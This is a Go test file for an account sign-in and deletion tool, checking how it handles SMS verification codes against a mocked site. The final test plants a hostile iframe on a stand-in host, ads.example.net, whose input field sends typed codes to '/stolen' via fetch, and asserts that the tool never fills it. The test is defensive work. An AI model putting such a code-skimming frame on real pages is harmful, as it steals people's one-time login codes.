package pages_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"miacct/flow"
	"miacct/mockcloud"
	"miacct/pages"
	"miacct/testdata/sample"
	"miacct/trail"
)

// onlySignIn makes a run of what is asked when signing in end with the plan.
func onlySignIn(j *pages.WebDelete, _ *owner) { j.DryRun = true }

// A repeater always gives the same answer to the question for a code.
type repeater struct {
	*owner
	answer string
	times  int
}

func (p *repeater) Answer(context.Context, flow.Question) (string, error) {
	p.times++
	return p.answer, nil
}

// What always answers the same is no person: it must neither use up the attempts nor the disk.
func TestSameAnswerIsNobody(t *testing.T) {
	for _, answer := range sample.Of(t, 1, []string{"", "000000", "other", "again", "   "}) {
		t.Run("answer "+answer, func(t *testing.T) {
			t.Parallel()
			before := scenario(t, "code-by-phone")
			before.Devices = nil
			var p *repeater
			o := run(t, before, nil, func(o *outing) {
				p = &repeater{owner: o.owner, answer: answer}
				o.person = p
			})
			o.wantOutcome(t, trail.NobodyThere)
			sent, tried := 0, 0
			for _, r := range o.cloud.State().Requests {
				if strings.Contains(r, "/send") && strings.Contains(r, "Ticket") {
					sent++
				}
				if strings.HasPrefix(r, "POST ") && strings.Contains(r, "/auth/verify") {
					tried++
				}
			}
			if p.times > 3 || tried > 1 || sent > 2 || len(o.lines) > 200 {
				t.Errorf("asked %d times, %d codes sent, %d tried, %d lines", p.times, sent, tried, len(o.lines))
			}
		})
	}
}

// A paster gives the code the way people paste it.
type paster struct {
	*owner
	as func(code string) string
}

func (p *paster) Answer(_ context.Context, q flow.Question) (string, error) {
	return p.as(p.cloud.State().LastCode), nil
}

func TestCodeAsPeoplePasteIt(t *testing.T) {
	for name, as := range sample.OfMap(t, 1, map[string]func(string) string{
		"in two parts": func(c string) string { return c[:3] + " " + c[3:] },
		"a sentence":   func(c string) string { return "Your code is " + c + ". It expires in 10 minutes." },
		"wide digits": func(c string) string {
			return strings.Map(func(r rune) rune { return r - '0' + '０' }, c)
		},
	}) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := scenario(t, "code-by-phone")
			before.Devices, before.Knobs.DeleteCode = nil, ""
			o := run(t, before, onlySignIn, func(o *outing) { o.person = &paster{o.owner, as} })
			o.wantOutcome(t, trail.Done)
			o.wantCounts(t, map[string]int{"send-code": 1, "sign-in": 1})
		})
	}
}

// boxes puts six boxes of one character in place of the one field; with sends the page sends
// the code off at the last.
func boxes(wrapped, sends bool) mockcloud.Hook {
	open, shut := "", ""
	if wrapped {
		open, shut = `h("div", {}, `, `)`
	}
	code := `const cells = [0,1,2,3,4,5].map(i => h("input", { type: "tel", maxlength: "1", autocomplete: i ? "off" : "one-time-code", "aria-label": "Digit " + (i + 1) }));
    cells.forEach((c, i) => c.addEventListener("input", () => { ticket.value = cells.map(x => x.value).join(""); if (c.value && cells[i + 1]) cells[i + 1].focus(); else if (c.value && ` + map[bool]string{true: "true", false: "false"}[sends] + `) ticket.form.requestSubmit(); }));
    const ticket = h("input", { type: "hidden", name: "hidden-code" });`
	return mockcloud.Hook{After: func(_ *mockcloud.State, _ *http.Request, body []byte) []byte {
		s := string(body)
		i := strings.Index(s, `const ticket = h("input"`)
		if i < 0 {
			return body
		}
		end := i + strings.Index(s[i:], "\n")
		s = s[:i] + code + s[end:]
		s = strings.Replace(s, `}, ticket, line,`, `}, ticket, h("div", {}, cells.map(c => `+open+`c`+shut+`)), line,`, 1)
		s = strings.Replace(s, `ticket.value = "";`, `ticket.value = ""; cells.forEach(c => { c.value = ""; });`, 1)
		return []byte(s)
	}}
}

func TestCodeInSixBoxes(t *testing.T) {
	for name, c := range sample.OfMap(t, 1, map[string]struct{ wrapped, sends bool }{
		"side by side": {false, false}, "each in its own": {true, false}, "sent at the last": {false, true},
	}) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := scenario(t, "code-by-phone")
			before.Devices, before.Knobs.DeleteCode = nil, ""
			o := runHooked(t, before, []mockcloud.Hook{boxes(c.wrapped, c.sends)}, onlySignIn)
			o.wantOutcome(t, trail.Done)
			tried := 0
			for _, r := range o.cloud.State().Requests {
				if strings.HasPrefix(r, "POST ") && strings.Contains(r, "/auth/verify") {
					tried++
				}
			}
			if tried != 1 {
				t.Errorf("the code was sent %d times", tried)
			}
		})
	}
}

// The site's own words about codes are passed on, also where nobody has noted them yet.
func TestCodeLimitInTheSitesWords(t *testing.T) {
	for _, words := range sample.Of(t, 1, []string{
		"Sent too many codes. Try again tomorrow.",
		"Too many verification codes have been sent to this number. Wait 24 hours and try again.",
		"ຫຼາຍເກີນໄປ :70022",
		"Something is odd with this number. :70036",
	}) {
		t.Run(words, func(t *testing.T) {
			t.Parallel()
			before := scenario(t, "code-limit")
			hook := mockcloud.Hook{After: func(_ *mockcloud.State, _ *http.Request, body []byte) []byte {
				return []byte(strings.ReplaceAll(string(body), "W_.code_limit", `"`+words+`"`))
			}}
			o := runHooked(t, before, []mockcloud.Hook{hook}, nil)
			o.wantOutcome(t, trail.Refused)
			if o.err == nil || !strings.Contains(o.err.Error(), words) {
				t.Errorf("%v does not say %q", o.err, words)
			}
		})
	}
}

// A check whose controls are worded and built as nobody has noted them is passed by what they mean; the code
// is sent once and the person is asked again where it was wrong.
func TestCodeInOtherWords(t *testing.T) {
	swap := func(send, ask, again, submit string) mockcloud.Hook {
		return swapIn("/fe/service/identity/verifyPhone", `mail ? W_.send : W_.send_sms`, `"`+send+`"`, `W_.resend_in`, `"`+again+` {time}"`, `: W_.resend;`, `: "`+again+`";`,
			`"button", class: "btn primary", onclick`, `"button", onclick`, `name: "ticket", placeholder: W_.code_enter`, `name: "pin7", placeholder: "`+ask+`"`,
			`type: "submit", class: "btn primary" }, W_.submit`, `type: "button", onclick: e => e.target.form.requestSubmit() }, "`+submit+`"`)
	}
	for name, hook := range sample.OfMap(t, 1, map[string]mockcloud.Hook{
		"English": swap("Text me a code", "6-digit code", "Send a new code", "Check the code"),
		"German":  swap("Code per SMS senden", "Bestätigungscode", "Neuen Code senden", "Code prüfen"),
		"Spanish": swap("Enviar código por SMS", "Código de verificación", "Enviar otro código", "Verificar"),
	}) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := scenario(t, "wrong-code")
			before.Devices, before.Knobs.DeleteCode = nil, ""
			o := runHooked(t, before, []mockcloud.Hook{hook}, onlySignIn)
			o.wantOutcome(t, trail.Done)
			o.wantCounts(t, map[string]int{"send-code": 1, "sign-in": 1})
		})
	}
}

// A code goes to the site's own field, and into no frame of another host.
func TestNoCodeIntoAForeignFrame(t *testing.T) {
	t.Parallel()
	before := scenario(t, "code-by-phone")
	before.Devices, before.Knobs.DeleteCode = nil, ""
	ad := `<!doctype html><body><form action=/stolen method=post><input name=ticket oninput="fetch('/stolen?'+this.value,{method:'POST'})"><button>Submit</button></form></body>`
	o := runHooked(t, before, []mockcloud.Hook{
		mockcloud.Insert("/fe/service/identity/verifyPhone", `<iframe src="https://ads.example.net/ad" width=300 height=80></iframe>`),
		mockcloud.Answer("GET ads.example.net/ad", "ad", ad), mockcloud.Answer("POST ads.example.net/stolen", "stolen", "{}"),
	}, onlySignIn)
	o.wantOutcome(t, trail.Done)
	o.wantCounts(t, map[string]int{"stolen": 0, "send-code": 1, "sign-in": 1})
	if o.cloud.State().Counts["ad"] == 0 {
		t.Error("the frame was never there: the test shows nothing")
	}
}
